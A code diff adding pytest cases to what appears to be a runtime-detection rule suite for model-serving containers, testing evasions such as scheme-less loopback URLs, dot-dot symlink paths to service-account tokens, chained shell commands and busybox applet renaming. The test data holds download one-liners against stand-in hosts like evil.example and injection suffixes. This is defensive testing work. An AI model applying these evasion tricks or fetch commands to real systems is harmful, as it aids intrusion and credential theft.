@@ -828,3 +828,524 @@ def test_the_entrypoint_exception_holds_only_while_the_container_starts() -> Non
         ("=", "<"),
         (("1", "30000000000"),),
     )
+
+
+# -- Review 71 -------------------------------------------------------------------------------------
+# Each finding is proven the same way: the nearest recorded action, rewritten the way the attacker
+# (or the serving image) changes it, read by the real libsinsp.
+
+SH_D4 = Recorded("sg-d-tamper.scap", "sgcap-d4")  # sh -c 'ln -s ...; : sgcap-d4', the parent of ln
+
+
+# Finding 1: a loopback URL inside a word that has no scheme is host/path to curl and wget: the
+# exception for local requests needs the word to start with the scheme and the loopback host.
+
+
+@pytest.mark.parametrize(
+    "argv",
+    [
+        # Hosts without the letters the macro rejects before a "://" for other reasons (curl's
+        # -x, -K, -L; wget's -i, -e, -B): evil.com, bad.org.
+        ["curl", "-s", "evil.com/a://127.0.0.1:1/"],
+        ["curl", "-so/tmp/t", "evil.com/a://localhost:1/"],
+        ["curl", "-s", "evil.com/http://127.0.0.1:8088/"],
+        ["curl", "evil.com/q?https://[::1]:8000/"],
+        ["wget", "-qO-", "bad.org/q://127.0.0.1:1/"],
+        ["wget", "-qO-", "bad.org/q://[::1]:1/"],
+        ["busybox", "wget", "-qO-", "bad.org/q://127.0.0.1:1/"],
+        ["curl", "-s", "http://127.0.0.1.evil.com/"],  # a host that only starts like loopback
+    ],
+    ids=" ".join,
+)
+def test_a_loopback_url_without_its_scheme_first_is_a_download(derive: Derive, argv: list[str]) -> None:
+    derived = derive(CURL_F2.capture, CURL_F2.exec(path=_exepath(argv[0]), argv=argv, name=argv[0]))
+    [event] = derived.fired(DOWNLOAD, f"{EXECVE} and {CURL_F2.thread}")
+    assert event["proc.args"] == " ".join(argv[1:])
+
+
+@pytest.mark.parametrize(
+    "argv",
+    [
+        ["curl", "-s", "https://127.0.0.1:8443/v2/health/ready"],
+        ["curl", "-s", "http://127.0.0.1/health"],
+        ["curl", "http://localhost:8080/"],
+        ["wget", "-qO-", "https://localhost/health"],
+        ["busybox", "wget", "-qO-", "http://[::1]:8080/health"],
+        ["curl", "-sf", "https://[::1]/v2/health/ready"],
+    ],
+    ids=" ".join,
+)
+def test_a_loopback_url_with_its_scheme_first_is_a_local_request(derive: Derive, argv: list[str]) -> None:
+    derived = derive(CURL_F2.capture, CURL_F2.exec(path=_exepath(argv[0]), argv=argv, name=argv[0]))
+    assert derived.events(f"{EXECVE} and {CURL_F2.thread}")
+    assert derived.fired(DOWNLOAD, f"{EXECVE} and {CURL_F2.thread}") == []
+
+
+# Finding 2: libsinsp resolves '..' textually; the kernel follows a symlink first (/var/run is a link
+# to /run in Debian and Ubuntu images, so /var/run/.. is /). Paths compared as written are not
+# normalised at all.
+
+
+@pytest.mark.parametrize(
+    ("path", "shown", "fires"),
+    [
+        (
+            "/var/run/../var/run/secrets/kubernetes.io/serviceaccount/token",
+            "/var/var/run/secrets/kubernetes.io/serviceaccount/token",
+            True,
+        ),
+        (
+            "/var/run/../var/run/secrets/kubernetes.io/serviceaccount/..data/token",
+            "/var/var/run/secrets/kubernetes.io/serviceaccount/..data/token",
+            True,
+        ),
+        (
+            "/var/run/../var/run/secrets/eks.amazonaws.com/serviceaccount/token",
+            "/var/var/run/secrets/eks.amazonaws.com/serviceaccount/token",
+            True,
+        ),
+        (
+            "/var/run/../var/run/secrets/azure/tokens/azure-identity-token",
+            "/var/var/run/secrets/azure/tokens/azure-identity-token",
+            True,
+        ),
+        (
+            "/var/run/../var/run/secrets/kubernetes.io/serviceaccount/ca.crt",
+            "/var/var/run/secrets/kubernetes.io/serviceaccount/ca.crt",
+            False,
+        ),
+        (
+            "/var/run/../var/run/secrets/kubernetes.io/serviceaccount-reader/token",
+            "/var/var/run/secrets/kubernetes.io/serviceaccount-reader/token",
+            False,
+        ),
+    ],
+)
+def test_the_token_through_a_symlink_and_dot_dot_is_a_credential(
+    derive: Derive, path: str, shown: str, fires: bool
+) -> None:
+    derived = derive(CAT_H1.capture, _open(path))
+    assert bool(_opened(derived, CAT_H1, CREDENTIALS, shown)) is fires
+
+
+@pytest.mark.parametrize(
+    ("path", "shown", "fires"),
+    [
+        ("/var/run/../models/resnet/model.pt", "/var/models/resnet/model.pt", True),
+        ("/var/run/../mnt/models/resnet/config.pbtxt", "/var/mnt/models/resnet/config.pbtxt", True),
+        ("/var/run/..//models/resnet/model.pt", "/var/models/resnet/model.pt", True),
+        ("/var/run/../data/model.safetensors", "/var/data/model.safetensors", True),
+        ("/var/run/../opt/ml/model/model.joblib", "/var/opt/ml/model/model.joblib", True),
+        ("/var/run/../weights/llama.gguf", "/var/weights/llama.gguf", True),  # a model file
+        # A '..' elsewhere, nothing of the model dirs: a log, a cache.
+        ("/var/run/../tmp/sgcap-serve.log", "/var/tmp/sgcap-serve.log", False),
+        ("/app/bin/../logs/serve.log", "/app/logs/serve.log", False),
+        ("/app/./cache/tokens.json", "/app/cache/tokens.json", False),
+        # '.' and '//' do not change where an open leads: fd.name resolves them exactly.
+        ("/home/model-server/./logs/ts_log.log", "/home/model-server/logs/ts_log.log", False),
+        ("/srv//data-export/out.json", "/srv/data-export/out.json", False),
+    ],
+)
+def test_a_write_through_dot_dot_into_a_model_dir_is_tampering(
+    derive: Derive, path: str, shown: str, fires: bool
+) -> None:
+    derived = derive(PYTHON_D1.capture, _open_instead(PYTHON_D1, "/models/resnet/model.pt", path))
+    assert bool(_opened(derived, PYTHON_D1, TAMPER, shown)) is fires
+
+
+@pytest.mark.parametrize(
+    ("newpath", "fires"),
+    [
+        ("/var/run/../models/resnet/model.pt", True),
+        ("/var/run/../mnt/models/model.safetensors", True),
+        ("/var/run/../tmp/evil.bin", False),
+    ],
+)
+def test_a_rename_through_dot_dot_into_a_model_dir_is_tampering(
+    derive: Derive, newpath: str, fires: bool
+) -> None:
+    rename = _one(MV_D2, se.RENAMEAT2_EXIT)
+    changes = {
+        se.RENAMEAT2_EXIT_OLDPATH: se.strings("/tmp/evil.bin"),
+        se.RENAMEAT2_EXIT_NEWPATH: se.strings(newpath),
+    }
+    derived = derive(MV_D2.capture, {rename.index: se.replaced(rename, changes)})
+    renamed = f"evt.type = renameat2 and evt.dir = < and {MV_D2.thread}"
+    [event] = derived.events(renamed)
+    assert event["evt.type"] == "renameat2"
+    assert bool(derived.fired(TAMPER, renamed)) is fires
+
+
+@pytest.mark.parametrize(
+    ("target", "link", "fires"),
+    [
+        ("/tmp/../models", "/tmp/md", True),
+        ("/var/run/../models/resnet/model.pt", "/tmp/m", True),
+        ("/./models/resnet/model.pt", "/tmp/m", True),
+        ("/mnt/./models", "/dev/shm/.m", True),
+        ("/proc/self/root//models", "/tmp/md", True),
+        ("../models/resnet/model.pt", "/tmp/m", True),  # relative, with '..'
+        ("/tmp/../tmp/evil/model.pt", "/tmp/m", False),  # nothing of the model dirs
+        ("/var/run/../run/lock", "/tmp/l", False),
+    ],
+)
+def test_a_link_to_a_model_dir_written_with_dot_segments_is_tampering(
+    derive: Derive, target: str, link: str, fires: bool
+) -> None:
+    derived = derive(LN_D4.capture, _symlink(target, link))
+    made = f"evt.type = symlinkat and evt.dir = < and {LN_D4.thread}"
+    assert derived.events(made)
+    assert bool(derived.fired(TAMPER, made)) is fires
+
+
+# Finding 3: Triton's Python backend starts its stub through a shell, per model instance: the check
+# system("<stub>> /dev/null 2>&1") and execvp("bash", {"bash", "-c", " exec <stub> ..."}), both with
+# the parent tritonserver. Exactly those are excepted; nothing can be chained to them.
+
+TRITON_STUB = "/opt/tritonserver/backends/python/triton_python_backend_stub"
+TRITON_CHECK = f"{TRITON_STUB}> /dev/null 2>&1"
+TRITON_START = (
+    f" exec {TRITON_STUB} /models/resnet/1/model.py triton_python_backend_shm_region_1 1048576 1048576"
+    " 57 /opt/tritonserver/backends/python 336 resnet_0_0 /models/resnet"
+)
+
+
+def _triton(*, parent: str, path: str, argv: list[str]) -> Replacements:
+    """`sh -c mv ...` becomes the server (``parent``), its child mv the shell it starts."""
+    replacements = dict(
+        SH_D2.exec(
+            path=f"/opt/tritonserver/bin/{parent}", argv=[parent, "--model-repository=/models"], name=parent
+        )
+    )
+    replacements.update(MV_D2.exec(path=path, argv=argv, name=argv[0]))
+    return replacements
+
+
+@pytest.mark.parametrize(
+    ("parent", "path", "argv", "fires"),
+    [
+        ("tritonserver", "/usr/bin/dash", ["sh", "-c", TRITON_CHECK], False),
+        ("tritonserver", "/usr/bin/bash", ["bash", "-c", TRITON_START], False),
+        # Not the server, or not the image's /bin/sh, or more than the stub.
+        ("python3", "/usr/bin/dash", ["sh", "-c", TRITON_CHECK], True),
+        ("tritonserver", "/usr/bin/bash", ["sh", "-c", TRITON_CHECK], True),  # bash under the name sh
+        ("tritonserver", "/usr/bin/dash", ["sh", "-c", TRITON_CHECK + "; id"], True),
+        ("tritonserver", "/usr/bin/bash", ["bash", "-c", TRITON_START + "; id"], True),
+        ("tritonserver", "/usr/bin/bash", ["bash", "-c", TRITON_START + " && id"], True),
+        ("tritonserver", "/usr/bin/bash", ["bash", "-c", TRITON_START + " | sh"], True),
+        ("tritonserver", "/usr/bin/bash", ["bash", "-c", TRITON_START + " $(id)"], True),
+        ("tritonserver", "/usr/bin/bash", ["bash", "-c", TRITON_START + " `id`"], True),
+        ("tritonserver", "/usr/bin/bash", ["bash", "-c", TRITON_START + "\nid"], True),
+        ("tritonserver", "/usr/bin/bash", ["bash", "-c", TRITON_START + " >/tmp/x"], True),
+        (
+            "tritonserver",
+            "/usr/bin/bash",
+            ["bash", "-c", TRITON_START.replace("/opt/tritonserver", "/tmp")],
+            True,
+        ),
+        # A Python execution environment (EXECUTION_ENV_PATH): not excepted (rules/README.md).
+        (
+            "tritonserver",
+            "/usr/bin/bash",
+            [
+                "bash",
+                "-c",
+                "source /tmp/env/bin/activate && exec env LD_LIBRARY_PATH=/tmp/env/lib:$LD_LIBRARY_PATH"
+                + TRITON_START.removeprefix(" exec"),
+            ],
+            True,
+        ),
+    ],
+    ids=lambda v: v if isinstance(v, str) and len(v) < 20 else None,
+)
+def test_triton_starting_its_python_backend_stub_is_not_a_shell(
+    derive: Derive, parent: str, path: str, argv: list[str], fires: bool
+) -> None:
+    derived = derive(MV_D2.capture, _triton(parent=parent, path=path, argv=argv))
+    [event] = derived.events(f"{EXECVE} and {MV_D2.thread}")
+    assert (event["proc.name"], event["proc.args"]) == (argv[0], " ".join(argv[1:]))
+    assert bool(derived.fired(SHELL, f"{EXECVE} and {MV_D2.thread}")) is fires
+
+
+# Finding 4: ICMP (ping sockets) and raw sockets send without connect.
+
+
+@pytest.mark.parametrize(
+    ("sock_type", "protocol", "l4proto"),
+    [(2, 1, "icmp"), (3, 1, "raw"), (3, 255, "raw")],  # SOCK_DGRAM/ICMP, SOCK_RAW/ICMP, SOCK_RAW/RAW
+)
+def test_icmp_and_raw_sends_are_egress(derive: Derive, sock_type: int, protocol: int, l4proto: str) -> None:
+    """The recorded UDP datagram (e2) sent on a ping or raw socket instead."""
+    _, python = PYTHON_E2.exec_events()
+    socket = [e for e in _events(PYTHON_E2.capture) if e.tid == python.tid and e.type == se.SOCKET_ENTER][-1]
+    changes = {
+        se.SOCKET_ENTER_TYPE: struct.pack("<I", sock_type),
+        se.SOCKET_ENTER_PROTO: struct.pack("<I", protocol),
+    }
+    derived = derive(PYTHON_E2.capture, {socket.index: se.replaced(socket, changes)})
+    sent = f"evt.type = sendto and evt.dir = < and {PYTHON_E2.thread}"
+    [event] = derived.sysdig.read_capture(str(derived.path), sent, [*FIELDS, "fd.l4proto"])
+    assert (event["fd.l4proto"], event["fd.sip"]) == (l4proto, "100.64.10.2")
+    assert [e["evt.type"] for e in derived.fired(EGRESS, PYTHON_E2.thread)] == ["sendto"]
+
+
+def test_icmp_to_an_allowed_network_is_not_egress(derive: Derive) -> None:
+    _, python = PYTHON_E2.exec_events()
+    socket = [e for e in _events(PYTHON_E2.capture) if e.tid == python.tid and e.type == se.SOCKET_ENTER][-1]
+    changes = {se.SOCKET_ENTER_TYPE: struct.pack("<I", 2), se.SOCKET_ENTER_PROTO: struct.pack("<I", 1)}
+    replacements = {socket.index: se.replaced(socket, changes), **_udp_to("10.1.2.3", 0)}
+    derived = derive(PYTHON_E2.capture, replacements)
+    [event] = derived.events(f"evt.type = sendto and evt.dir = < and {PYTHON_E2.thread}")
+    assert event["fd.sip"] == "10.1.2.3"
+    assert derived.fired(EGRESS, PYTHON_E2.thread) == []
+
+
+# Finding 5: a script in a writable dir run by an interpreter, or by its shebang (the executable Falco
+# reports is the interpreter's, the process is named after the script).
+
+
+@pytest.mark.parametrize(
+    ("path", "argv", "name", "fires"),
+    [
+        ("/usr/bin/python3.11", ["/usr/bin/python3", "/tmp/x.py", "a"], "x.py", True),  # #!/usr/bin/python3
+        ("/usr/bin/python3.11", ["python3", "/tmp/x.py"], "python3", True),
+        ("/usr/local/bin/python3.11", ["python", "/dev/shm/.x"], "python", True),
+        ("/usr/bin/dash", ["/bin/sh", "/dev/shm/.x.sh"], ".x.sh", True),
+        ("/usr/bin/bash", ["bash", "/var/tmp/run.sh"], "bash", True),
+        ("/usr/bin/perl", ["/usr/bin/perl", "/tmp/x.pl"], "x.pl", True),
+        ("/usr/bin/node", ["node", "/tmp/x.js"], "node", True),
+        # Scripts of the image, options before the script, programs that are no interpreter.
+        ("/usr/bin/python3.11", ["python3", "/app/serve.py"], "python3", False),
+        (
+            "/usr/bin/python3.11",
+            ["/usr/bin/python3", "/usr/local/bin/gunicorn", "app:app"],
+            "gunicorn",
+            False,
+        ),
+        ("/usr/bin/cat", ["cat", "/tmp/x.py"], "cat", False),
+        ("/usr/bin/gawk", ["awk", "/tmp/ {print $1}"], "awk", False),
+        # The recordings' script directory, declared in the captures' override
+        # (serving_guard_allowed_script_dirs).
+        ("/usr/bin/python3.11", ["python3", "/tmp/sgscen/x.py"], "python3", False),
+    ],
+)
+def test_a_script_run_from_a_writable_dir_is_drift(
+    derive: Derive, path: str, argv: list[str], name: str, fires: bool
+) -> None:
+    derived = derive(DROPPED_G2.capture, DROPPED_G2.exec(path=path, argv=argv, name=name))
+    [event] = derived.events(f"{EXECVE} and {DROPPED_G2.thread}")
+    assert (event["proc.exepath"], event["proc.args"]) == (path, " ".join(argv[1:]))
+    assert bool(derived.fired(DRIFT, f"{EXECVE} and {DROPPED_G2.thread}")) is fires
+
+
+# Finding 6: busybox drops a leading '-' and any directory from argv[0] (and any directory from the
+# applet it is given as its first argument).
+
+
+@pytest.mark.parametrize(
+    ("argv", "name", "fires"),
+    [
+        (["-sh", "-c", "id"], "busybox", True),
+        (["./sh", "-c", "id"], "busybox", True),
+        (["/tmp/x/ash", "-c", "id"], "busybox", True),
+        (["-/bin/sh", "-c", "id"], "busybox", True),
+        (["-hush"], "b", True),  # a link to busybox under another name
+        (["busybox", "/bin/sh", "-c", "id"], "busybox", True),
+        (["busybox", "./ash", "-c", "id"], "busybox", True),
+        (["busybox", "/tmp/bash"], "busybox", True),
+        (["./shred", "-u", "/tmp/x"], "busybox", False),
+        (["-ls", "-l", "/tmp"], "busybox", False),  # a login-style name of another applet
+        (["busybox", "ls", "/bin/sh"], "busybox", False),
+        (["busybox", "wget", "http://evil.example/sh"], "busybox", False),  # a download, not a shell
+    ],
+)
+def test_busybox_names_its_shell_applet_many_ways(
+    derive: Derive, argv: list[str], name: str, fires: bool
+) -> None:
+    derived = derive(SH_A1.capture, SH_A1.exec(path="/usr/bin/busybox", argv=argv, name=name))
+    [event] = derived.events(f"{EXECVE} and {SH_A1.thread}")
+    assert (event["proc.exe"], event["proc.name"]) == (argv[0], name)
+    assert bool(derived.fired(SHELL, f"{EXECVE} and {SH_A1.thread}")) is fires
+
+
+# Finding 7: busybox's download applets chosen by argv[0] (exec -a wget /bin/busybox URL).
+
+
+@pytest.mark.parametrize(
+    ("argv", "name", "fires"),
+    [
+        (["wget", "-O/tmp/x", "http://evil.example/x"], "busybox", True),
+        (["-wget", "-O/tmp/x", "http://evil.example/x"], "busybox", True),
+        (["/tmp/x/wget", "http://evil.example/x"], "busybox", True),
+        (["tftp", "-g", "-r", "x", "evil.example"], "busybox", True),
+        (["/usr/bin/ftpget", "evil.example", "x"], "busybox", True),
+        (["wget", "http://evil.example/x"], "b", True),  # a link to busybox under another name
+        (["busybox", "/usr/bin/wget", "http://evil.example/x"], "busybox", True),
+        (["sha256sum", "/models/model.pt"], "busybox", False),
+        (["busybox", "ls", "/tmp/wget"], "busybox", False),
+    ],
+)
+def test_busybox_download_applets_by_argv0_are_downloads(
+    derive: Derive, argv: list[str], name: str, fires: bool
+) -> None:
+    derived = derive(CURL_F2.capture, CURL_F2.exec(path="/usr/bin/busybox", argv=argv, name=name))
+    [event] = derived.events(f"{EXECVE} and {CURL_F2.thread}")
+    assert (event["proc.exe"], event["proc.name"]) == (argv[0], name)
+    assert bool(derived.fired(DOWNLOAD, f"{EXECVE} and {CURL_F2.thread}")) is fires
+
+
+# Finding 8: KServe's modelcar sidecar runs `sh -c "ln -sf /proc/$$/root/models /mnt/models && sleep
+# infinity"`: the shell and the link it makes are excepted, exactly.
+
+MODELCAR = "ln -sf /proc/$$/root/models /mnt/models && sleep infinity"
+MODELCAR_OLD = "ln -sf /proc/$$/root/models /mnt/ && sleep infinity"
+
+
+def _modelcar(command: str, ln_args: list[str], target: str) -> Replacements:
+    """d4's `sh -c 'ln -s ...'` runs ``command``, its ln ``ln_args`` and links /mnt/models to ``target``."""
+    replacements = dict(SH_D4.exec(argv=["sh", "-c", command]))
+    replacements.update(LN_D4.exec(argv=["ln", *ln_args]))
+    replacements.update(_symlink(target, "/mnt/models"))
+    return replacements
+
+
+@pytest.mark.parametrize(
+    ("command", "ln_args", "target", "fires"),
+    [
+        (MODELCAR, ["-sf", "/proc/57/root/models", "/mnt/models"], "/proc/57/root/models", False),
+        (MODELCAR_OLD, ["-sf", "/proc/57/root/models", "/mnt/"], "/proc/57/root/models", False),
+        # Another command line, or another link under the modelcar's command line.
+        (MODELCAR + "; id", ["-sf", "/proc/57/root/models", "/mnt/models"], "/proc/57/root/models", True),
+        (
+            MODELCAR.replace("&&", ";"),
+            ["-sf", "/proc/57/root/models", "/mnt/models"],
+            "/proc/57/root/models",
+            True,
+        ),
+        (MODELCAR, ["-sf", "/tmp/evil/models", "/mnt/models"], "/tmp/evil/models", True),
+    ],
+)
+def test_kserve_modelcar_linking_its_models_is_quiet(
+    derive: Derive, command: str, ln_args: list[str], target: str, fires: bool
+) -> None:
+    derived = derive(LN_D4.capture, _modelcar(command, ln_args, target))
+    made = f"evt.type = symlinkat and evt.dir = < and {LN_D4.thread}"
+    [link] = derived.sysdig.read_capture(
+        str(derived.path), made, ["evt.arg.target", "evt.arg.linkpath", "proc.pcmdline"]
+    )
+    assert (link["evt.arg.target"], link["evt.arg.linkpath"]) == (target, "/mnt/models")
+    assert link["proc.pcmdline"] == f"sh -c {command}"
+    assert bool(derived.fired(TAMPER, made)) is fires
+    shell_fired = derived.fired(SHELL, f"{EXECVE} and {SH_D4.thread}")
+    assert bool(shell_fired) is (command not in (MODELCAR, MODELCAR_OLD))  # the modelcar's exact command
+
+
+# Finding 9: interpreter one-liners that download.
+
+
+@pytest.mark.parametrize(
+    ("path", "argv", "fires"),
+    [
+        (
+            "/usr/bin/python3.11",
+            [
+                "python3",
+                "-c",
+                "import urllib.request as u; u.urlretrieve('https://evil.example/m.pt', '/tmp/m.pt')",
+            ],
+            True,
+        ),
+        (
+            "/usr/bin/python3.11",
+            [
+                "python3",
+                "-c",
+                "import requests; open('/tmp/t','wb').write(requests.get('https://evil.example/t').content)",
+            ],
+            True,
+        ),
+        (
+            "/usr/bin/python3.11",
+            [
+                "python3",
+                "-c",
+                "from huggingface_hub import hf_hub_download; hf_hub_download('evil/m', 'model.safetensors')",
+            ],
+            True,
+        ),
+        (
+            "/usr/bin/perl",
+            ["perl", "-MLWP::Simple", "-e", "getstore('http://evil.example/t', '/tmp/t')"],
+            True,
+        ),
+        (
+            "/usr/bin/perl",
+            ["perl", "-e", "use HTTP::Tiny; HTTP::Tiny->new->mirror('http://evil.example/t', '/tmp/t')"],
+            True,
+        ),
+        (
+            "/usr/bin/ruby3.1",
+            ["ruby", "-ropen-uri", "-e", "IO.copy_stream(URI.open('http://evil.example/t'), '/tmp/t')"],
+            True,
+        ),
+        ("/usr/bin/php8.2", ["php", "-r", "copy('http://evil.example/t', '/tmp/t');"], True),
+        (
+            "/usr/bin/node",
+            ["node", "-e", "fetch('http://evil.example/t').then(r => r.text()).then(console.log)"],
+            True,
+        ),
+        # python under another name (a link): Falco resolves the executable.
+        (
+            "/usr/bin/python3.11",
+            ["/tmp/x", "-c", "import urllib.request; urllib.request.urlopen('http://evil.example/')"],
+            True,
+        ),
+        # One-liners that fetch nothing, and programs that are no one-liner.
+        ("/usr/bin/python3.11", ["python3", "-c", "import json; print(json.dumps({'ok': True}))"], False),
+        ("/usr/bin/python3.11", ["python3", "-c", "open('/models/resnet/model.pt','rb').read()"], False),
+        ("/usr/bin/python3.11", ["python3", "-u", "/app/serve.py", "--port", "8000"], False),
+        ("/usr/bin/perl", ["perl", "-e", "print 1"], False),
+    ],
+    ids=lambda v: v if isinstance(v, str) and len(v) < 20 else None,
+)
+def test_interpreter_one_liners_that_download_are_downloads(
+    derive: Derive, path: str, argv: list[str], fires: bool
+) -> None:
+    name = Path(argv[0]).name
+    derived = derive(CURL_F2.capture, CURL_F2.exec(path=path, argv=argv, name=name))
+    [event] = derived.events(f"{EXECVE} and {CURL_F2.thread}")
+    assert (event["proc.name"], event["proc.args"]) == (name, " ".join(argv[1:]))
+    assert bool(derived.fired(DOWNLOAD, f"{EXECVE} and {CURL_F2.thread}")) is fires
+
+
+def test_a_reverse_shell_one_liner_in_python_under_another_name_is_a_reverse_shell(derive: Derive) -> None:
+    _, python = PYTHON_B1.exec_events()
+    code = python.params[se.EXECVE_ARGS].split(b"\0")[1].decode()
+    derived = derive(
+        PYTHON_B1.capture, PYTHON_B1.exec(path="/usr/bin/python3.11", argv=["/tmp/x", "-c", code], name="x")
+    )
+    [event] = derived.fired(REVERSE_SHELL, f"{EXECVE} and {PYTHON_B1.thread}")
+    assert event["proc.name"] == "x"
+
+
+# Finding 10: the system-script exception holds only for the image's /bin/sh running the script.
+
+
+@pytest.mark.parametrize(
+    ("path", "argv", "name", "fires"),
+    [
+        ("/usr/bin/dash", ["/bin/sh", "/sbin/ldconfig", "-p"], "ldconfig", False),  # the real script
+        ("/bin/dash", ["/bin/sh", "/usr/bin/which", "python3"], "which", False),
+        # ln -s /bin/bash /tmp/ldconfig; BASH_ENV=/tmp/x.sh /tmp/ldconfig /sbin/ldconfig -p
+        ("/usr/bin/bash", ["/tmp/ldconfig", "/sbin/ldconfig", "-p"], "ldconfig", True),
+        ("/usr/bin/bash", ["/bin/bash", "/usr/bin/which", "python3"], "which", True),
+        ("/usr/bin/zsh", ["/tmp/which", "/bin/which", "x"], "which", True),
+    ],
+)
+def test_a_system_script_is_excepted_only_under_the_images_sh(
+    derive: Derive, path: str, argv: list[str], name: str, fires: bool
+) -> None:
+    derived = derive(SH_A1.capture, SH_A1.exec(path=path, argv=argv, name=name))
+    [event] = derived.events(f"{EXECVE} and {SH_A1.thread}")
+    assert (event["proc.name"], event["proc.exepath"]) == (name, path)
+    assert bool(derived.fired(SHELL, f"{EXECVE} and {SH_A1.thread}")) is fires
